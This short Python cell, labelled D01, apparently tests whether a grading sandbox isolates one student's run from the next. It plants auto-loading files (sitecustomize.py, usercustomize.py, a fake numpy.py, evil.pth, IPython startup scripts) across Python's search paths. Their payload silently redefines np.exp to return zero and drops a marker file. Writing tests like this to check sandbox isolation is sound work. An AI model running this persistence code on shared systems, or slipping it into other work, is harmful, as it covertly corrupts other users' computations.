# D01 · Leaves files behind that the next student's process would run when it starts.

# %% [first] trick
import os, site, sys
text = "import numpy as np\nnp.exp = lambda x: x * 0\nopen('/tmp/chalkgrad-was-here-start', 'w')\n"
for folder in (os.path.expanduser("~/.ipython/profile_default/startup"), site.getusersitepackages(),
               "/sandbox/home/.ipython/profile_default/startup", *sys.path, "."):
    for name in ("00-first.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "evil.pth",
                 "ipython_config.py", "matplotlibrc", ".pythonrc"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "x") as file:
                file.write(text)
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = os.path.abspath("00-first.py")
